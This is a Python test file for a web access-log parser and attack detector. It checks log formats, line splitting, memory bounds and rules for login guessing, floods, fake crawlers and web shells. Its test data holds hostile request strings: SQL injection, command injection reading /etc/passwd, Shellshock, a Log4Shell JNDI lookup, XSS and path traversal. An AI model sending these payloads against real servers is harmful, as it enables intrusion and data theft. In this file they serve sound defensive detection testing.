"""From bytes to columns: every form of a log, every way to cut it, and hostile text; each line counted once."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from ipaddress import ip_network

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from runner.actions.logs.blocks import BLOCK, LONGEST_LINE, BlockCutter
from runner.actions.logs.columns import Columns, cut_columns
from runner.actions.logs.detector import Detector
from runner.actions.logs.engines import load_ranges
from runner.actions.logs.layouts import COMBINED, Layout, guess_layout, parse_layout, parse_moment, read_line
from runner.actions.logs.pack import Pack, load_detector
from runner.actions.logs.scanning import Scan, Terms

NOW = datetime(2026, 11, 22, 2, 0, tzinfo=UTC)
NGINX = (
    '$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent"'
)


@pytest.fixture(name="rules", scope="module")
def _rules(tmp_path_factory: pytest.TempPathFactory) -> tuple[Pack, Detector]:
    return load_detector(cache=tmp_path_factory.getbasetemp() / "cache" / "sop")


def line(
    target: str = "/",
    *,
    address: str = "203.0.113.7",
    status: int = 200,
    method: str = "GET",
    at: datetime = NOW - timedelta(hours=1),
    agent: str = "Mozilla/5.0 (X11)",
    referer: str = "-",
) -> bytes:
    moment = at.strftime("%d/%b/%Y:%H:%M:%S +0000")
    text = f'{address} - - [{moment}] "{method} {target} HTTP/1.1" {status} 512 "{referer}" "{agent}"\n'
    return text.encode("utf-8", "surrogateescape")


def scanned(rules: tuple[Pack, Detector], data: bytes, **terms: object) -> Scan:
    scan = Scan(*rules, Terms(NOW, UTC, **terms))  # type: ignore[arg-type]  # a test's terms
    scan.feed(data)
    scan.end()
    scan.finish()
    return scan


def findings(scan: Scan) -> dict[str, int]:
    return {name: finding.attempts for name, finding in scan.findings.items()}


@pytest.mark.parametrize(
    ("form", "raw", "name"),
    [
        ("", '1.2.3.4 - - [22/Nov/2026:09:00:00 +0700] "GET /x HTTP/1.1" 200 5', "common"),
        ("", '1.2.3.4 - budi s [22/Nov/2026:09:00:00 +0700] "GET /x HTTP/1.1" 200 5 "-" "M"', "combined"),
        ("", '1.2.3.4 - - [22/Nov/2026:09:00:00 +0700] "GET /x HTTP/1.1" 200 5 "-" "M" "10.0.0.1"', "combined"),
        ("", '1.2.3.4 - - [22/Nov/2026:09:00:00 +0700] "GET /x HTTP/1.1" 200 5 "-" "M" rt=0.1 up="1"', "combined"),
        ("", 'pn.example:443 1.2.3.4 - - [22/Nov/2026:09:00:00 +0700] "GET /x HTTP/1.1" 200 5 "-" "M"', "vhost"),
        ("", '"1.2.3.4 - - [22/Nov/2026:09:00:00 +0700] "GET /x HTTP/1.1" 200 5 "-" "M""', "combined"),
        (
            "",
            '{"remote_addr":"1.2.3.4","time":"2026-11-22T09:00:00+07:00","request":"GET /x HTTP/1.1","status":200}',
            "json",
        ),
        (
            "",
            '{"ts":1795312800.5,"request":{"remote_ip":"1.2.3.4","method":"GET","uri":"/x","headers":{"User-Agent":["M"]}},"status":200,"size":5}',
            "json",
        ),
        (NGINX, '1.2.3.4 - - [22/Nov/2026:09:00:00 +0700] "GET /x HTTP/1.1" 200 5 "-" "M"', NGINX),
        (
            "%{X}o %a [%{UNIQUE_ID}e] %t %m %U%q %>s %b",
            "v 1.2.3.4 [abc] [22/Nov/2026:09:00:00 +0700] GET /x 200 5",
            "%{X}o",
        ),
        (
            "$time_iso8601|$remote_addr|$request_method|$request_uri|$status",
            "2026-11-22T09:00:00+07:00|1.2.3.4|GET|/x|200",
            "$time",
        ),
    ],
)
def test_reads_the_forms_that_servers_write(rules: tuple[Pack, Detector], form: str, raw: str, name: str) -> None:
    scan = scanned(rules, (raw + "\n").encode() * 3, layout=parse_layout(form) if form else None)
    assert (scan.lines, scan.not_understood, scan.requests) == (3, 0, 3)
    assert next(iter(scan.layouts)).startswith(name)
    assert dict(scan.statistics.pages()) == {"/x": 3}
    assert dict(scan.statistics.networks()) == {"1.2.3.0/24": 3}
    assert scan.statistics.first == datetime(2026, 11, 22, 2, 0, tzinfo=UTC)


@pytest.mark.parametrize(
    ("text", "words"),
    [("apache", "no form of a log"), ("%h %u", "names no moment, status"), ("%h %t %>s", "names no request")],
)
def test_a_format_line_that_says_too_little_is_refused(text: str, words: str) -> None:
    with pytest.raises(ValueError, match=words):
        parse_layout(text)


def test_lines_of_no_form_are_guessed_as_none() -> None:
    assert guess_layout([b"?"] * 9) is None
    assert guess_layout([]) is None


_FIELD = st.text(st.characters(min_codepoint=33, max_codepoint=255, exclude_characters='"\\'), max_size=12)
_LINES = st.one_of(
    st.builds(lambda t, r, a: line("/" + t, referer=r, agent=a), _FIELD, _FIELD, _FIELD),
    st.builds(lambda t: line("/" + t + '\\"x').replace(b"/1.1", b"/1.1 \\\\"), _FIELD),
    st.sampled_from(
        [b"?\n", b'"""""" \n', b'"\n', b"\x00\x01\n", b"\n", line()[:-1] + b' "extra"\n', line()[:-1] + b" 0.1\n"]
    ),
    st.builds(
        lambda status, size: line().replace(b" 200 512 ", b" %s %s " % (status, size)),
        st.sampled_from([b"200", b"", b"-", b"99", b"0200"]),
        st.sampled_from([b"512", b"", b"-", b"-1", b"5 12", b"9" * 19]),
    ),
    st.builds(lambda raw: raw.replace(b"\n", b"") + b"\n", st.binary(max_size=60)),
)


@example([line(), line().replace(b" 512 ", b"  ")])
@given(st.lists(_LINES, max_size=12))
def test_columns_are_what_lines_say_one_by_one(lines: list[bytes]) -> None:
    columns, unknown = cut_columns(b"".join(lines), COMBINED)
    expected = [read_line(text, COMBINED) for text in b"".join(lines).split(b"\n") if text.rstrip(b"\r")]
    found = [columns.entry(number) for number in range(len(columns.requests))]
    timely = [entry for entry in found if parse_moment(entry.moment)]
    assert sorted(timely) == sorted(entry for entry in expected if entry)
    assert len(unknown) + len(found) - len(timely) == sum(entry is None for entry in expected)


_ATTACKS = st.sampled_from(
    [
        line("/?id=1%27%20UNION%20SELECT%201--"),
        line("/a;cat+/etc/passwd"),
        line("/x", agent="() { :; }; /bin/id"),
        line("/x", referer="${jndi:ldap://e}"),
        line(r"/a\"onload=alert(1)"),
        line("/images/a.php"),
        line("https://evil.example/"),
        line("/\\x2e\\x2e/\\x2e\\x2e/etc/passwd"),
        line("/hilang", status=404),
        line("/.env").replace(b"- - [", b"- a [b ["),
        line("/.env")[:-1] + b' "10.0.0.1"\n',
        json.dumps({"remote_addr": "1.2.3.4", "time": "2026-11-22T09:00:00+07:00", "uri": "/../../etc/passwd"})
        .replace("/", "\\u002f")
        .replace("}", ', "status": 200}')
        .encode()
        + b"\n",
    ]
)


@given(st.lists(_LINES | _ATTACKS, max_size=12))
def test_what_is_taken_out_early_is_all_that_is_found(rules: tuple[Pack, Detector], lines: list[bytes]) -> None:
    _, detector = rules
    block = b"".join(lines)
    found, expected = detector.find(block, COMBINED), detector.find_in(cut_columns(block)[0])
    assert sorted(map(str, found)) == sorted(map(str, expected))


@given(st.lists(st.binary(max_size=300), max_size=20), st.integers(1, 50))
def test_blocks_hold_the_same_lines_wherever_pieces_end(lines: list[bytes], size: int) -> None:
    data = b"\n".join(lines)
    found: list[bytes] = []
    cutter = BlockCutter(found.append)
    for start in range(0, len(data), size):
        cutter.feed(data[start : start + size])
    cutter.end()
    assert [text for text in b"".join(found).split(b"\n") if text] == [text for text in data.split(b"\n") if text]


def test_keeps_only_the_beginning_of_an_endless_line() -> None:
    found: list[bytes] = []
    cutter = BlockCutter(found.append)
    for _ in range(100):
        cutter.feed(b"x" * 65536)
    cutter.feed(b"\nnext\n" + b"y" * 5 * BLOCK + b"\nlast\n")
    cutter.end()
    lines = b"".join(found).split(b"\n")
    assert (len(lines[0]), lines[1], len(lines[2]), lines[3:]) == (LONGEST_LINE, b"next", LONGEST_LINE, [b"last", b""])


@given(st.binary(max_size=400))
def test_any_bytes_are_counted(rules: tuple[Pack, Detector], raw: bytes) -> None:
    data = raw + b'\n1.2.3.4 - - [22/Nov/2026:01:00:00 +0000] "GET /' + raw + b' HTTP/1.1" 404 5 "-" "-"'
    scan = scanned(rules, data)
    assert scan.lines == sum(bool(text.rstrip(b"\r")) for text in data.split(b"\n"))
    assert scan.requests + scan.not_understood == scan.lines


def test_forged_fields_do_not_shift_others(rules: tuple[Pack, Detector]) -> None:
    forged = line(
        '/x HTTP/1.1\\" 200 1 \\"-\\" \\"Googlebot\\"\\n8.8.8.8 - - [22/Nov/2026:01:00:00 +0000] \\"GET /', status=404
    )
    scan = scanned(rules, forged * 5 + line())
    assert dict(scan.statistics.networks()) == {"203.0.113.0/24": 6}
    assert scan.statistics.statuses == {b"404": 5, b"200": 1}
    assert scan.engines.rows() == []


def test_future_and_impossible_dates_are_not_understood(rules: tuple[Pack, Detector]) -> None:
    scan = scanned(rules, line(at=NOW + timedelta(days=40)) + line().replace(b"22/Nov", b"31/Feb") + line())
    assert (scan.lines, scan.not_understood, scan.requests) == (3, 2, 1)
    assert parse_moment(b"31/Feb/2026:01:00:00 +0000") is None


def test_visits_end_after_half_an_hour_and_programs_are_apart(rules: tuple[Pack, Detector]) -> None:
    start = NOW - timedelta(hours=5)
    log = b"".join(line(at=start + timedelta(minutes=m)) for m in (0, 10, 39, 70, 71))
    log += line(agent="Mozilla/5.0 (compatible; Googlebot/2.1)", at=start) + line(agent="curl/8.1", at=start)
    counted = scanned(rules, log).statistics
    assert (counted.visits, counted.bot_visits, counted.bot_requests) == (2, 2, 2)
    assert dict(counted.bots()) == {"Googlebot": 1, "curl": 1}
    assert counted.hours == {"21": 5, "22": 2}


@pytest.mark.parametrize(
    ("count", "step", "found"),
    [(9, 1, {}), (10, 1, {"login_guessing": 10}), (25, 1, {"login_guessing": 25}), (30, 600, {})],
)
def test_a_window_slides(rules: tuple[Pack, Detector], count: int, step: int, found: dict[str, int]) -> None:
    start = NOW - timedelta(hours=10)
    log = b"".join(line("/wp-login.php", method="POST", at=start + timedelta(seconds=step * n)) for n in range(count))
    assert findings(scanned(rules, log)) == found


def test_guessing_is_told_once(rules: tuple[Pack, Detector]) -> None:
    start = NOW - timedelta(hours=23)

    def tries(count: int, step: int, address: str = "203.0.113.7") -> bytes:
        moments = (start + timedelta(seconds=step * n) for n in range(count))
        return b"".join(line("/wp-login.php", method="POST", address=address, at=at) for at in moments)

    assert findings(scanned(rules, tries(200, 5))) == {"login_guessing": 200}
    assert findings(scanned(rules, tries(50, 900))) == {"login_guessing_slow": 50}
    many = sorted(
        b"".join(tries(8, 60, f"198.51.100.{n}") for n in range(20)).splitlines(True), key=lambda each: each[18:]
    )
    assert findings(scanned(rules, b"".join(many))) == {"login_guessing_shared": 160}


def test_floods_are_told_by_address_subnet_and_in_all(rules: tuple[Pack, Detector]) -> None:
    at = NOW - timedelta(hours=1)
    one = b"".join(line(f"/{n}", at=at) for n in range(700))
    assert findings(scanned(rules, one)) == {"flood_address": 700}
    many = b"".join(line(f"/{n}", address=f"203.0.113.{n % 200}", at=at) for n in range(1600))
    assert findings(scanned(rules, many)) == {"flood_subnet": 1600}
    wide = b"".join(line("/", address=f"198.{18 + n % 2}.{n % 250}.{n % 13}", at=at) for n in range(6100))
    assert findings(scanned(rules, wide)) == {"flood_all": 6100}


def test_upload_then_execute_is_told_only_in_that_order(rules: tuple[Pack, Detector]) -> None:
    upload = line("/index.php?option=com_media&task=file.upload", method="POST", at=NOW - timedelta(hours=3))
    execute = line("/images/x.php", at=NOW - timedelta(hours=2))
    scan = scanned(rules, upload + execute)
    assert scan.findings["upload_then_execute"].successes == 1
    assert "upload_then_execute" not in findings(scanned(rules, execute + upload))
    other = line("/images/x.php", address="198.51.100.1", at=NOW - timedelta(hours=2))
    assert "upload_then_execute" not in findings(scanned(rules, upload + other))


def test_engines_are_verified_by_their_networks_or_not_at_all(rules: tuple[Pack, Detector], tmp_path: object) -> None:
    from pathlib import Path

    agent = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
    log = line(agent=agent, address="66.249.64.1") + line(agent=agent) * 2
    assert scanned(rules, log).engines.rows() == [{"engine": "google", "verified": 0, "unverified": 3, "false": 0}]
    place = Path(str(tmp_path)) / "engines.json"
    place.write_text(
        json.dumps({"google": {"prefixes": [{"ipv4Prefix": "66.249.64.0/27"}]}, "bing": ["157.55.39.0/24"]})
    )
    scan = scanned(rules, log, ranges=load_ranges(place))
    assert scan.engines.rows() == [{"engine": "google", "verified": 1, "unverified": 0, "false": 2}]
    assert findings(scan) == {"false_engine": 2}
    own = [ip_network("203.0.113.0/28")]  # the office's: its own watch looks as engines do
    assert findings(scanned(rules, log, ranges=load_ranges(place), own=own)) == {}
    for wrong in ("[1]", "{", '{"gogle": []}', '{"google": ["x"]}', '{"google": 5}'):
        place.write_text(wrong)
        with pytest.raises(ValueError, match=r"engines\.json"):
            load_ranges(place)


def test_what_is_usual_weighs_less_but_is_told(rules: tuple[Pack, Detector]) -> None:
    log = line("/keluar?page=http://lain.example/a.txt") + line(
        "/keluar?page=http://b.example/b.txt", address="198.51.100.1"
    )
    first = scanned(rules, log).findings["remote_file"]
    assert (str(first.severity), first.usual_paths()) == ("major", ["/keluar"])
    again = scanned(rules, log, usual={"remote_file": frozenset(["/keluar"])}).findings["remote_file"]
    assert (str(again.severity), again.attempts, again.usual) == ("minor", 2, 2)


def test_a_shell_that_answers_never_becomes_usual(rules: tuple[Pack, Detector]) -> None:
    log = line("/uploads/x.php") + line("/uploads/x.php", address="198.51.100.1")
    found = scanned(rules, log).findings["shell_place"]
    assert (found.successes, found.usual_paths()) == (2, [])
    again = scanned(rules, log, usual={"shell_place": frozenset(["/uploads/x.php"])}).findings["shell_place"]
    assert (str(again.severity), again.successes) == ("critical", 2)


def test_what_one_client_sends_without_end_is_forgotten(
    rules: tuple[Pack, Detector], monkeypatch: pytest.MonkeyPatch
) -> None:
    for place, limit in (("correlations.MOST_SERIES", 300), ("findings.MOST_HITS", 200)):
        monkeypatch.setattr(f"runner.actions.logs.{place}", limit)
    monkeypatch.setattr("runner.actions.logs.scanning.MOST_HITS", 200)
    monkeypatch.setattr("runner.actions.logs.statistics.MOST_VISITORS", 400)
    scan = Scan(*rules, Terms(NOW, UTC))
    scan.statistics._missing._most = 1000
    for n in range(0, 12_000, 1000):
        scan.feed(
            b"".join(line(f"/{m}", address=f"198.18.{m // 250}.{m % 250}", status=404) for m in range(n, n + 1000))
        )
    scan.end()
    assert scan.requests == 12_000
    assert len(scan.statistics._missing) + len(scan.statistics._seen) < 1000 + 400 + 2 * 1500
    assert scan.statistics._missing.forgotten > 0
    assert all(len(each._series) <= 300 for some in scan._countings.values() for each in some)
    assert len(scan.hits) <= 200


def test_long_lines_without_end_take_no_more_memory(
    rules: tuple[Pack, Detector], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("runner.actions.logs.scanning.MOST_HIT_BYTES", 50_000)
    monkeypatch.setattr("runner.actions.logs.statistics.MOST_BYTES", 100_000)
    log = b"".join(line(f"/?id={n}'+union+select+{'A' * 2000}--") for n in range(600))
    scan = scanned(rules, log)
    pages = scan.statistics._shown
    assert scan.requests == 600
    assert scan.hits_left_out > 0
    assert sum(len(hit.get("target", "")) for hit in scan.hits) < 60_000
    assert sum(map(len, pages)) < 2 * 128 * 1024
    assert pages.total() + pages.forgotten == 600


def test_columns_can_be_empty() -> None:
    assert cut_columns(b"", Layout("combined", 6))[0] == Columns([], [], [], [], [], [])
